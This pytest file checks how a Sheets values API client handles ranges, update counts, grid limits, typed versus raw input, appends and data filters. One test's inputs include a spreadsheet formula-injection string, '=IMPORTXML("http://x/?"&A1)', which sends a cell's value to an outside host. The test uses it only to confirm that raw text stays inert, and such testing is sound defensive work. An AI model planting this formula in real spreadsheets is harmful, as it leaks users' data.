"""`spreadsheets.values` as recordings of real traffic show it: ranges, shapes, counts, what typing makes of text."""

import pytest
from contract.clients import RefusedError

DATE = 43831
"""2020-01-01."""


def resize(client, book, rows, columns):
    grid = {"rowCount": rows, "columnCount": columns}
    properties = {"sheetId": 0, "gridProperties": grid}
    fields = "gridProperties.rowCount,gridProperties.columnCount"
    client.structure(book, {"updateSheetProperties": {"properties": properties, "fields": fields}})


def get(client, book, cells, **query):
    return client.call("spreadsheets.values.get", spreadsheetId=book, range=cells, **query)


# --- writing ---------------------------------------------------------------------------------------------------------


def test_null_leaves_a_cell_and_empty_text_empties_it(client, book):
    client.update(book, "A1", [["a", "b", "c"]])
    client.update(book, "A1", [[None, "", "z"]])
    assert client.read(book, "A1:C1") == [[["a", "", "z"]]]


@pytest.mark.parametrize(
    ("values", "told"),
    [
        ([["a", None], [None, "b"]], {"updatedRows": 2, "updatedColumns": 2, "updatedCells": 2}),
        ([["a", "", "b"]], {"updatedRows": 1, "updatedColumns": 3, "updatedCells": 3}),
        ([[None, None]], {}),
    ],
)
def test_cells_that_are_not_null_are_counted(client, book, values, told):
    """Counts of zero are left out."""
    answer = client.update(book, "A1", values)
    assert {name: count for name, count in answer.items() if name not in {"spreadsheetId", "updatedRange"}} == told


def test_the_updated_range_is_the_rectangle_of_the_data(client, book):
    assert client.update(book, "A1", [[1, 2, 3], [4]])["updatedRange"] == "Sheet1!A1:C2"
    assert client.update(book, "B7", [["x"]])["updatedRange"] == "Sheet1!B7"


@pytest.mark.parametrize(
    ("cells", "values", "message"),
    [
        ("A2:H2", [list("abcdefghi")], "Requested writing within range ['T'!A2:H2], but tried to write to column [I]"),
        ("A2:B13", [["x"]] * 13, "Requested writing within range ['T'!A2:B13], but tried writing to row [14]"),
    ],
)
def test_a_range_with_two_corners_bounds_the_write(client, book, cells, values, message):
    title = {"properties": {"sheetId": 0, "title": "T"}, "fields": "title"}
    client.structure(book, {"updateSheetProperties": title})
    with pytest.raises(RefusedError) as refused:
        client.update(book, f"T!{cells}", values)
    assert (refused.value.code, refused.value.message) == (400, message)


def test_update_never_grows_the_grid(client, book):
    resize(client, book, 97, 3)
    with pytest.raises(RefusedError) as refused:
        client.update(book, "Sheet1!D7", [["x"]])
    assert refused.value.message == "Range (Sheet1!D7) exceeds grid limits. Max rows: 97, max columns: 3"


def test_a_batch_tells_of_each_range_in_order_and_counts_rows_and_columns_once(client, book):
    told = client.update_many(
        book,
        [
            {"range": "Sheet1!A1:B2", "values": [["a", None], [None, "b"]]},
            {"range": "B1:C1", "values": [["c", "d"]]},
        ],
    )
    assert told == {
        "spreadsheetId": book,
        "totalUpdatedRows": 2,
        "totalUpdatedColumns": 3,
        "totalUpdatedCells": 4,
        "totalUpdatedSheets": 1,
        "responses": [
            {
                "spreadsheetId": book,
                "updatedRange": "Sheet1!A1:B2",
                "updatedRows": 2,
                "updatedColumns": 2,
                "updatedCells": 2,
            },
            {
                "spreadsheetId": book,
                "updatedRange": "Sheet1!B1:C1",
                "updatedRows": 1,
                "updatedColumns": 2,
                "updatedCells": 2,
            },
        ],
    }


def test_values_after_the_update_come_with_the_cells_that_were_skipped(client, book):
    client.update(book, "A1", [["key", "old", "mine"]])
    told = client.update_many(
        book,
        [{"range": "A1:D1", "values": [[None, "new", None, ""]]}],
        includeValuesInResponse=True,
        responseValueRenderOption="UNFORMATTED_VALUE",
    )
    assert told["responses"][0]["updatedData"] == {
        "range": "Sheet1!A1:D1",
        "majorDimension": "ROWS",
        "values": [["key", "new", "mine"]],
    }


def test_a_batch_of_values_is_all_or_nothing_and_names_the_range_at_fault(client, book):
    data = [{"range": "A1", "values": [["x"]]}, {"range": "A2", "values": [["y" * 50_001]]}]
    with pytest.raises(RefusedError) as refused:
        client.update_many(book, data)
    assert refused.value.message == (
        "Invalid data[1]: Your input contains more than the maximum of 50000 characters in a single cell."
    )
    assert client.read(book, "A1") == [[]]
    client.update(book, "A1", [["y" * 50_000]])
    assert len(client.read(book, "A1")[0][0][0]) == 50_000


def test_columns_first(client, book):
    data = [{"range": "A1", "majorDimension": "COLUMNS", "values": [["a", "b"], ["c"]]}]
    client.update_many(book, data)
    assert client.read(book, "A1:B2") == [[["a", "c"], ["b"]]]
    told = get(client, book, "A1:B2", majorDimension="COLUMNS")
    assert told == {"range": "Sheet1!A1:B2", "majorDimension": "COLUMNS", "values": [["a", "b"], ["c"]]}


# --- reading ---------------------------------------------------------------------------------------------------------


def test_trailing_blanks_are_cut_and_inner_ones_stay(client, book):
    client.update(book, "A1", [["a", "", "c", ""], ["", "", "", ""], ["", "e"], [""]])
    assert get(client, book, "A1:D9")["values"] == [["a", "", "c"], [], ["", "e"]]


def test_an_empty_result_has_no_values(client, book):
    assert get(client, book, "A1:D9") == {"range": "Sheet1!A1:D9", "majorDimension": "ROWS"}


@pytest.mark.parametrize(
    ("asked", "told"),
    [
        ("A1:1", "Sheet1!A1:D1"),
        ("B1:B", "Sheet1!B1:B20"),
        ("2:4", "Sheet1!A2:D4"),
        ("D4:A1", "Sheet1!A1:D4"),
        ("B2", "Sheet1!B2"),
        ("Sheet1", "Sheet1!A1:D20"),
        ("A15:F30", "Sheet1!A15:D20"),
    ],
)
def test_the_range_told_is_bounded_by_the_grid(client, book, asked, told):
    resize(client, book, 20, 4)
    assert get(client, book, asked)["range"] == told


@pytest.mark.parametrize(
    ("title", "told"),
    [
        ("Orders", "Orders!A1"),
        ("My Orders", "'My Orders'!A1"),
        ("🌵 x", "'🌵 x'!A1"),
        ("D3", "'D3'!A1"),
        ("Bob's", "'Bob''s'!A1"),
    ],
)
def test_titles_are_quoted_only_when_needed(client, book, title, told):
    properties = {"properties": {"sheetId": 0, "title": title}, "fields": "title"}
    client.structure(book, {"updateSheetProperties": properties})
    quoted = "'" + title.replace("'", "''") + "'"
    assert get(client, book, f"{quoted}!A1")["range"] == told


def test_reading_ignores_filters_and_hidden_rows(client, book):
    client.update(book, "A1", [["h"], ["x"], ["y"]])
    criteria = [{"columnIndex": 0, "filterCriteria": {"hiddenValues": ["x"]}}]
    client.structure(book, {"setBasicFilter": {"filter": {"range": {"sheetId": 0}, "filterSpecs": criteria}}})
    assert client.read(book, "A1:A3") == [[["h"], ["x"], ["y"]]]


# --- RAW and typed ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "raw", "typed", "shown"),
    [
        ("0042", "0042", 42, "42"),
        ("2,000,000.01", "2,000,000.01", 2000000.01, "2,000,000.01"),
        ("2020-01-01", "2020-01-01", DATE, "2020-01-01"),
        ("= 1 / 1024", "= 1 / 1024", 0.0009765625, "0.0009765625"),
        (42, 42, 42, "42"),
        (42.01, 42.01, 42.01, "42.01"),
        (True, True, True, "TRUE"),
        ("'0042", "'0042", "0042", "0042"),
    ],
)
def test_raw_keeps_and_typing_reads(client, book, given, raw, typed, shown):
    client.update(book, "A1", [[given]])
    client.update(book, "B1", [[given]], mode="USER_ENTERED")
    plain = {"valueRenderOption": "UNFORMATTED_VALUE"}
    assert get(client, book, "A1:B1", **plain)["values"] == [[raw, typed]]
    assert get(client, book, "B1")["values"] == [[shown]]


def test_sum_is_text_when_raw_and_a_formula_when_typed(client, book):
    client.update(book, "B4", [[1, 2, 3]])
    client.update(book, "A1", [["=sum(B4:I4)"]])
    client.update(book, "A2", [["=sum(B4:I4)"]], mode="USER_ENTERED")
    assert client.read(book, "A1:A2") == [[["=sum(B4:I4)"], ["6"]]]
    # The FORMULA rendering cannot tell them apart; grid data can.
    rendered = get(client, book, "A1:A2", valueRenderOption="FORMULA")["values"]
    assert rendered == [["=sum(B4:I4)"], ["=sum(B4:I4)"]]
    told = client.get(book, ranges="A1:A2", fields="sheets.data.rowData.values.userEnteredValue")
    held = [row["values"][0]["userEnteredValue"] for row in told["sheets"][0]["data"][0]["rowData"]]
    assert held == [{"stringValue": "=sum(B4:I4)"}, {"formulaValue": "=sum(B4:I4)"}]


def test_a_date_is_a_serial_in_the_formula_rendering(client, book):
    client.update(book, "A1", [["2020-01-01", "1900-01-01 12:00"]], mode="USER_ENTERED")
    assert get(client, book, "A1:B1", valueRenderOption="FORMULA")["values"] == [[DATE, 2.5]]
    query = {"valueRenderOption": "UNFORMATTED_VALUE", "dateTimeRenderOption": "FORMATTED_STRING"}
    assert get(client, book, "A1", **query)["values"] == [["2020-01-01"]]


@pytest.mark.parametrize("text", ["example.com", "https://example.com/a?b=1"])
@pytest.mark.parametrize("mode", ["RAW", "USER_ENTERED"])
def test_an_address_alone_in_a_cell_becomes_a_link(client, book, text, mode):
    client.update(book, "A1", [[text]], mode=mode)
    told = client.get(book, ranges="A1", fields="sheets.data.rowData.values(hyperlink,userEnteredValue)")
    (cell,) = told["sheets"][0]["data"][0]["rowData"][0]["values"]
    assert cell["userEnteredValue"] == {"stringValue": text}
    assert cell["hyperlink"].endswith(text.removeprefix("https://"))


@pytest.mark.parametrize(
    "text", ['=IMPORTXML("http://x/?"&A1)', "+1", "@x", "-2", "👩‍🚀 naïve", "\u202eשלום", "576461413840000123"]
)
def test_foreign_text_stays_text_when_it_is_raw(client, book, text):
    client.update(book, "A1", [[text]])
    assert get(client, book, "A1", valueRenderOption="UNFORMATTED_VALUE")["values"] == [[text]]


# --- append ----------------------------------------------------------------------------------------------------------


def test_append_goes_below_the_block_it_finds(client, book):
    """Of a first row x, blank, z a whole sheet finds the right block and an anchor its own."""
    client.update(book, "A1", [["x", "", "z"]])
    told = client.append(book, "Sheet1", [["1", "2", "3"]])
    assert (told["tableRange"], told["updates"]["updatedRange"]) == ("Sheet1!C1", "Sheet1!C2:E2")
    client.clear(book, "A2:Z9")
    told = client.append(book, "Sheet1!A1", [["1", "2", "3"]])
    assert (told["tableRange"], told["updates"]["updatedRange"]) == ("Sheet1!A1", "Sheet1!A2:C2")


def test_append_without_a_table_writes_where_it_was_asked_and_names_none(client, book):
    told = client.append(book, "Sheet1!A2", [list("abcdefgh")])
    assert "tableRange" not in told
    assert told["updates"]["updatedRange"] == "Sheet1!A2:H2"


def test_append_grows_the_grid_and_is_not_idempotent(client, book):
    resize(client, book, 2, 2)
    client.update(book, "A1", [["h"], ["a"]])
    for row in (3, 4):
        told = client.append(book, "Sheet1!A1", [["b"]])
        assert told["updates"]["updatedRange"] == f"Sheet1!A{row}"


def test_append_with_inserted_rows_leaves_the_blank_ones_below(client, book):
    resize(client, book, 5, 2)
    client.update(book, "A1", [["h"]])
    client.append(book, "Sheet1!A1", [["a"], ["b"]], insertDataOption="INSERT_ROWS")
    grid = client.get(book)["sheets"][0]["properties"]["gridProperties"]
    assert grid == {"rowCount": 7, "columnCount": 2}


def test_values_by_data_filter_follow_the_column(client, book):
    where = {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 1, "endIndex": 2}
    entry = {
        "metadataKey": "column",
        "metadataValue": "qty",
        "visibility": "DOCUMENT",
        "location": {"dimensionRange": where},
    }
    client.update(book, "A1", [["id", "qty"], ["a", 1]])
    client.structure(book, {"createDeveloperMetadata": {"developerMetadata": entry}})
    front = {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 1}
    client.structure(book, {"insertDimension": {"range": front}})
    chosen = {"developerMetadataLookup": {"metadataKey": "column", "metadataValue": "qty"}}
    body = {"dataFilters": [chosen], "majorDimension": "COLUMNS"}
    told = client.call("spreadsheets.values.batchGetByDataFilter", body, spreadsheetId=book)
    (found,) = told["valueRanges"]
    assert found["valueRange"] == {
        "range": "Sheet1!C1:C1000",
        "majorDimension": "COLUMNS",
        "values": [["qty", "1"]],
    }
    assert found["dataFilters"] == [chosen]
    body = {"valueInputOption": "RAW", "data": [{"dataFilter": chosen, "values": [["pieces"]]}]}
    client.call("spreadsheets.values.batchUpdateByDataFilter", body, spreadsheetId=book)
    assert client.read(book, "C1:C2") == [[["pieces"], ["1"]]]
    cleared = client.call("spreadsheets.values.batchClearByDataFilter", {"dataFilters": [chosen]}, spreadsheetId=book)
    assert cleared["clearedRanges"] == ["Sheet1!C1:C1000"]
    assert client.read(book, "B1:C2") == [[["id"], ["a"]]]
